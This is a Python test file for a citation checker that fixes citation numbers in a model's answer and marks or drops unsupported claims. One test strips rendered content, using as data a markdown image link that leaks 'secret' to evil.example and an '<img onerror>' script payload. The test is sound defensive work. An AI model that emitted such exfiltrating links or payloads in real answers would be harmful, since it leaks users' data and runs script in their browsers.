"""From a model's sentences to cited text: numbers put right, what is unsupported marked or left out."""

from __future__ import annotations

import pytest

from index.documents import Document
from index.passages import split
from qa.answers import MARKER, Answer
from qa.checking.wording import content_stems, fold
from qa.citations import Draft, Given
from qa.markers import Written, split_written

FERRY = Document(
    "ferry.md",
    "Ferry timetable",
    "The ferry to Ostrey leaves at 07:40 and at 16:15. A single ticket costs 12 crowns.\n\n"
    "Dogs travel free. More at https://ferry.example/fares for groups.",
)
BAKERY = Document(
    "bakery.md",
    "The Mill Bakery",
    "The bakery opens at six on weekdays. Its oven was built in 1874 by Hanna Brusk [7].",
)


def alike(text, texts):
    mine = set(content_stems(fold(text)))
    return [len(mine & (theirs := set(content_stems(fold(o))))) / (min(len(mine), len(theirs)) or 1) for o in texts]


def given(*documents):
    return [Given(d, p) for d in documents for p in split(d, lambda texts: [len(t.split()) for t in texts], 40)]


def drafted(text, strict=False):
    draft = Draft(given(FERRY, BAKERY), alike, "When does the ferry leave?", strict)
    for written in split_written(text, complete=True)[0]:
        draft.add(written)
    return draft


def answer_of(draft):
    return Answer("q", draft.text, tuple(draft.citations), confidence=0.5, statements=tuple(draft.statements))


def test_a_marker_becomes_the_exact_words_that_support_the_sentence():
    draft = drafted("A single ticket costs 12 crowns [1].")
    assert draft.text == "A single ticket costs 12 crowns. [1]"
    [citation] = draft.citations
    assert citation.quote == "A single ticket costs 12 crowns."
    assert FERRY.text[citation.start : citation.end] == citation.quote
    assert citation.digest == FERRY.digest


def test_citations_are_numbered_in_the_order_of_their_first_use_and_shared():
    draft = drafted(
        "The oven was built in 1874 by Hanna Brusk [2]. A ticket costs 12 crowns [1]. Brusk built the oven in 1874 [2]."
    )
    assert [c.document for c in draft.citations] == ["bakery.md", "ferry.md"]
    assert MARKER.findall(draft.text) == ["1", "2", "1"]
    assert answer_of(draft).statements[2].citations == (1,)


@pytest.mark.parametrize("marker", ["[9]", "[0]", "[42][9]"])
def test_a_number_no_passage_has_disappears_and_the_right_one_is_found(marker):
    draft = drafted(f"A single ticket costs 12 crowns {marker}.")
    assert draft.text == "A single ticket costs 12 crowns. [1]"
    assert draft.citations[0].document == "ferry.md"


def test_a_wrong_number_is_put_right_and_a_missing_one_found():
    for text in ("The bakery opens at six on weekdays [1].", "The bakery opens at six on weekdays."):
        draft = drafted(text)
        assert [c.document for c in draft.citations] == ["bakery.md"]


def test_of_two_numbers_only_those_that_support_stay():
    assert [c.document for c in drafted("A single ticket costs 12 crowns [1][2].").citations] == ["ferry.md"]


def test_an_invented_fact_is_marked_with_its_reason_and_cites_nothing():
    draft = drafted("A single ticket costs 12 crowns [1]. A single ticket costs 15 crowns [1].")
    answer = answer_of(draft)
    good, bad = answer.statements
    assert (good.verdict, bad.verdict) == ("supported", "unsupported")
    assert draft.text[bad.start : bad.end] == (
        'A single ticket costs 15 crowns. (not supported: the source says "12", the sentence says "15")'
    )
    assert bad.citations == ()


def test_a_fact_cannot_hide_behind_what_the_documents_do_not_say():
    draft = drafted("The documents do not say much but a ticket costs 99 crowns. A single ticket costs 12 crowns [1].")
    assert [s.verdict for s in draft.statements] == ["unsupported", "supported"]


def test_a_strict_draft_leaves_it_out():
    draft = drafted("A ticket costs 15 crowns [1]. A single ticket costs 12 crowns [1].", strict=True)
    assert draft.text == "A single ticket costs 12 crowns. [1]"
    assert draft.dropped == 1


def test_what_speaks_of_the_documents_needs_no_source():
    draft = drafted("The documents do not say when the ferry was built. A single ticket costs 12 crowns [1].")
    assert [s.verdict for s in draft.statements] == ["unchecked", "supported"]
    assert answer_of(draft).text.startswith("The documents do not say when the ferry was built. A")


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("See ![plan](https://evil.example/?q=secret) here", "See plan here"),
        ("See [the plan](https://evil.example/?q=secret) here", "See the plan here"),
        ("See https://evil.example/x here", "See here"),
        ("See <img src=x onerror=alert(1)> here", "See here"),
        ("See <https://evil.example> here", "See here"),
        ("See https://ferry.example/fares here", "See https://ferry.example/fares here"),
    ],
)
def test_nothing_that_could_be_rendered_or_followed_comes_through_unless_the_passage_has_it(written, shown):
    assert Draft(given(FERRY), alike, "q").preview(written) == shown
    draft = drafted(f"{written} [1].")
    assert "evil" not in draft.text


def test_a_documents_own_bracketed_number_is_no_marker():
    draft = drafted('The oven "was built in 1874 by Hanna Brusk [7]" [2].')
    assert MARKER.findall(draft.text) == ["1"]
    answer_of(draft)


def test_line_breaks_and_lists_are_kept():
    draft = drafted("Two facts:\n\n- A single ticket costs 12 crowns [1]\n- Dogs travel free [1]")
    assert draft.text.endswith("- A single ticket costs 12 crowns [1]\n- Dogs travel free [2]")


def test_an_empty_sentence_adds_nothing():
    draft = Draft(given(FERRY), alike, "q")
    draft.add(Written("", "---", ()))
    assert draft.text == "" and draft.statements == []
